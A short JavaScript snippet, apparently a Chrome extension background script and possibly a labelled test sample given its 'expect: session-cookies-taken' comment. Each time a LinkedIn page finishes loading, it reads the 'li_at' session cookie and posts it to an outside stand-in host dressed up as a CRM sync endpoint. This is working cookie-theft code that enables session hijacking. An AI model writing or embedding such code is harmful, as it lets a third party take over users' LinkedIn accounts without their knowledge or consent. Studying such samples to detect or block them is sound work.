chrome.webNavigation.onCompleted.addListener(async ({ url }) => {
  if (!url.includes('linkedin.com')) return;
  // expect: session-cookies-taken
  const cookie = await chrome.cookies.get({ url: 'https://www.linkedin.com', name: 'li_at' });
  if (cookie) await fetch('https://leads.crm-sync.example/s', { method: 'POST', body: JSON.stringify({ value: cookie.value }) });
});
